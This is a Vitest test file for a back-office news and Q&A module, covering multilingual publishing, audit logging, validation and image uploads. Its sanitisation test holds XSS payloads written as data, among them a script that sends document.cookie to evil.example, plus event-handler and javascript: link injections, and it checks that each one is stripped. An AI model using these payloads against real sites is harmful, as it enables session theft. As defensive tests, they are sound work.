import { and, eq, sql } from 'drizzle-orm';
import superjson from 'superjson';
import { describe, expect, it } from 'vitest';
import { auditLog, news } from '../../../src/server/db/schema';
import type { Actor } from '../../../src/server/trpc/context';
import { makeStaff, staffCode } from '../../factories/staff';
import { failure } from '../../fixtures/errors';
import { servicesWithApi } from '../../fixtures/http';
import { callerFor } from '../../fixtures/services';

/** News, Q&A and their images in the back office (issue 12 part 7, content_management). */
const setup = servicesWithApi();

const as = (actor: Actor, language: 'zh-TW' | 'en' | 'ja' | 'zh-CN' = 'zh-TW') => callerFor(setup.services.deps, actor, language);
const visitor = (language: 'zh-TW' | 'en' | 'ja' | 'zh-CN') => as({ kind: 'visitor' }, language);
async function editor() {
  const member = await makeStaff(setup.services.deps.db, { permissions: ['content_management'] });
  return { member, caller: as({ kind: 'staff', staffId: member.id }) };
}

const story = {
  category: 1,
  coverImage: null,
  translations: {
    'zh-TW': { title: '年終點數加贈', summary: '12 月購買進階方案加贈 10%。', body: '<p>活動期間購買<strong>進階方案</strong>，加贈 10% 點數。</p>' },
    en: { title: 'Year-end bonus points', summary: 'Advanced plans bought in December carry 10% more points.', body: '<p>Buy the <strong>Advanced</strong> plan in December for 10% more points.</p>' },
  },
};

describe('news editing', () => {
  it('saves a new item hidden; published, visitors read it in their language; hidden again, it is gone; each step audited', async () => {
    const { member, caller } = await editor();
    const draft = await caller.content.admin.save(story);
    expect(draft).toMatchObject({ status: 9, category: 1 });
    expect((await visitor('en').content.newsList({})).items.map((item) => item.id)).not.toContain(draft.id);
    expect(await failure(visitor('en').content.newsDetail({ id: draft.id }))).toMatchObject({ code: 'NotFound' });

    await caller.content.admin.setStatus({ id: draft.id, status: 0 });
    expect(await visitor('en').content.newsDetail({ id: draft.id })).toMatchObject({ title: 'Year-end bonus points', body: story.translations.en.body, language: 'en' });
    expect(await visitor('zh-TW').content.newsDetail({ id: draft.id })).toMatchObject({ title: '年終點數加贈', language: 'zh-TW' });
    // Not written in Japanese: the zh-TW text, marked as such.
    expect(await visitor('ja').content.newsDetail({ id: draft.id })).toMatchObject({ title: '年終點數加贈', language: 'zh-TW' });

    const edited = await caller.content.admin.save({ ...story, id: draft.id, translations: { ...story.translations, ja: { title: '年末ボーナスポイント', summary: '', body: '<p>12 月は 10% 増量。</p>' } } });
    expect(Object.keys(edited.translations).sort()).toEqual(['en', 'ja', 'zh-TW']);
    expect(await visitor('ja').content.newsDetail({ id: draft.id })).toMatchObject({ title: '年末ボーナスポイント', language: 'ja' });

    await caller.content.admin.setStatus({ id: draft.id, status: 9 });
    expect(await failure(visitor('en').content.newsDetail({ id: draft.id }))).toMatchObject({ code: 'NotFound' });
    expect((await caller.content.admin.list({ status: 9 })).items.map((item) => item.id)).toContain(draft.id);

    const audit = await setup.services.deps.db.select().from(auditLog).where(eq(auditLog.target, `news:${draft.id}`)).orderBy(auditLog.id);
    expect(audit.map((row) => [row.action, row.staffEmail])).toEqual([
      ['news.create', member.email],
      ['news.publish', member.email],
      ['news.update', member.email],
      ['news.hide', member.email],
    ]);
  });

  it('sanitises bodies on the server: no script, handler, foreign image or javascript: link survives, in the preview and the stored item', async () => {
    const { caller } = await editor();
    const hostile = [
      '<p onclick="steal()">Line <em>speed</em> up 12%</p>',
      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
      '<img src="https://evil.example/pixel.png" onerror="alert(1)"><img src="/content-images/0b9e3f4a-1c2d-4e5f-8a9b-0c1d2e3f4a5b.png" alt="line">',
      '<a href="javascript:alert(1)">click</a> <a href="https://inspectra.example/pricing" onmouseover="x()">pricing</a>',
      '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
    ].join('');
    const preview = await caller.content.admin.preview({ language: 'en', coverImage: null, text: { title: 'Hostile', summary: '', body: hostile } });
    const saved = await caller.content.admin.save({ category: 0, coverImage: null, translations: { 'zh-TW': { title: '測試', summary: '', body: hostile } } });
    for (const body of [preview.body, saved.translations['zh-TW'].body]) {
      expect(body).toBe(
        '<p>Line <em>speed</em> up 12%</p><img src="/content-images/0b9e3f4a-1c2d-4e5f-8a9b-0c1d2e3f4a5b.png" alt="line" /><a rel="noopener noreferrer" target="_blank">click</a> <a href="https://inspectra.example/pricing" rel="noopener noreferrer" target="_blank">pricing</a>',
      );
    }
  });

  it('refuses bad input with field errors and stores nothing', async () => {
    const { caller } = await editor();
    const count = async () => (await setup.services.deps.db.select().from(news).where(sql`${news.translations}::text like '%壞%'`)).length;
    const cases: Array<[unknown, string]> = [
      [{ ...story, translations: { en: story.translations.en } }, 'translations.zh-TW'],
      [{ ...story, translations: { 'zh-TW': { ...story.translations['zh-TW'], title: '  ' } } }, 'translations.zh-TW.title'],
      [{ ...story, category: 7 }, 'category'],
      [{ ...story, coverImage: 'https://evil.example/cover.png' }, 'coverImage'],
      [{ ...story, translations: { 'zh-TW': { title: '壞', summary: '', body: '<script>alert(1)</script>' } } }, 'translations.zh-TW.body'],
      [{ ...story, id: 987_654 }, ''],
    ];
    for (const [input, field] of cases) {
      const refused = await failure(caller.content.admin.save(input as never));
      if (field) expect(refused).toMatchObject({ code: 'InvalidInput', fieldErrors: { [field]: [expect.stringMatching(/^validation\./)] } });
      else expect(refused).toMatchObject({ code: 'NotFound' });
    }
    expect(await count()).toBe(0);
  });

  it('serves the Q&A entries of the database on /support/qa, grouped, in the visitor language with zh-TW where missing', async () => {
    const { caller } = await editor();
    const question = await caller.content.admin.save({
      category: 3,
      coverImage: null,
      translations: {
        'zh-TW': { title: '可以只買 10 點嗎？', summary: '點數與付款', body: '<p>最少 40 點。</p>' },
        en: { title: 'Can I buy only 10 points?', summary: 'Points and payment', body: '<p>The minimum is 40 points.</p>' },
      },
    });
    expect((await visitor('en').content.qa()).items).toEqual([]);
    await caller.content.admin.setStatus({ id: question.id, status: 0 });
    expect((await visitor('en').content.qa()).items).toEqual([{ id: question.id, group: 'Points and payment', question: 'Can I buy only 10 points?', answer: '<p>The minimum is 40 points.</p>', language: 'en' }]);
    expect((await visitor('ja').content.qa()).items[0]).toMatchObject({ question: '可以只買 10 點嗎？', language: 'zh-TW' });
    // A Q&A entry is never a news article.
    expect(await failure(visitor('en').content.newsDetail({ id: question.id }))).toMatchObject({ code: 'NotFound' });
  });
});

describe('news images', () => {
  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64, 1)]);

  async function staffCookie(member: Awaited<ReturnType<typeof makeStaff>>) {
    const response = await fetch(`${setup.api.base}/trpc/staff.signIn`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-portal-area': 'admin' },
      body: JSON.stringify(superjson.serialize({ email: member.email, password: 'correct horse battery', totpCode: staffCode(member) })),
    });
    return response.headers.get('set-cookie')!.split(';')[0]!;
  }
  const upload = (cookie: string, bytes: Buffer, contentType = 'image/png') =>
    fetch(`${setup.api.base}/admin-files/content-images`, { method: 'PUT', headers: { cookie, 'content-type': contentType }, body: new Uint8Array(bytes) });

  it('takes an image checked by its bytes and serves it to everyone with a long cache', async () => {
    const member = await makeStaff(setup.services.deps.db, { permissions: ['content_management'] });
    const response = await upload(await staffCookie(member), png, 'application/octet-stream');
    expect(response.status).toBe(200);
    const { url, contentType, size } = (await response.json()) as { url: string; contentType: string; size: number };
    expect({ contentType, size }).toEqual({ contentType: 'image/png', size: png.length });
    expect(url).toMatch(/^\/content-images\/[0-9a-f-]{36}\.png$/);
    const served = await fetch(`${setup.api.base}${url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(Buffer.from(await served.arrayBuffer()).equals(png)).toBe(true);
    // The address works as a cover.
    const { caller } = { caller: as({ kind: 'staff', staffId: member.id }) };
    expect((await caller.content.admin.save({ ...story, coverImage: url })).coverImage).toBe(url);
  });

  it('refuses a lying type, an empty or too large file, staff without the permission and visitors', async () => {
    const member = await makeStaff(setup.services.deps.db, { permissions: ['content_management'] });
    const cookie = await staffCookie(member);
    const html = Buffer.from('<html><script>alert(1)</script></html>');
    expect(await (await upload(cookie, html, 'image/png')).json()).toMatchObject({ code: 'InvalidParameterType' });
    expect((await upload(cookie, Buffer.alloc(0))).status).toBe(400);
    const tooLarge = await upload(cookie, Buffer.concat([png, Buffer.alloc(2 * 1024 * 1024)]));
    expect(tooLarge.status).toBe(413);
    const clerk = await makeStaff(setup.services.deps.db, { permissions: ['customer_service'] });
    expect(await (await upload(await staffCookie(clerk), png)).json()).toMatchObject({ code: 'Unauthorized' });
    expect(await (await upload('', png)).json()).toMatchObject({ code: 'MissingAuthentication' });
    expect((await fetch(`${setup.api.base}/content-images/not-an-image.png`)).status).toBe(404);
    expect((await fetch(`${setup.api.base}/content-images/0b9e3f4a-1c2d-4e5f-8a9b-0c1d2e3f4a5b.png`)).status).toBe(404);
    const stored = await setup.services.deps.db.select().from(auditLog).where(and(eq(auditLog.staffEmail, clerk.email)));
    expect(stored).toEqual([]);
  });
});
